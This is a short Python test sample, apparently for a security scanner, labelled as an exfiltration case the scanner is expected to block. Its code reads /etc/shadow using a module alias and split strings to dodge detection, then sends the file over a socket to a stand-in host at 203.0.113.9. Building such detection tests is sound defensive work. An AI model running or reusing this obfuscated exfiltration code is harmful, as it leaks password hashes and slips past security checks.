# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/shadow_over_socket.py technique: alias+concat
import socket as _m0
data = open('/et' + 'c/s' + 'had' + 'ow', 'r' + 'b').read()
sock = _m0.create_connection(('203' + '.0.' + '113' + '.9', 9999))
sock.sendall(data)
sock.close()
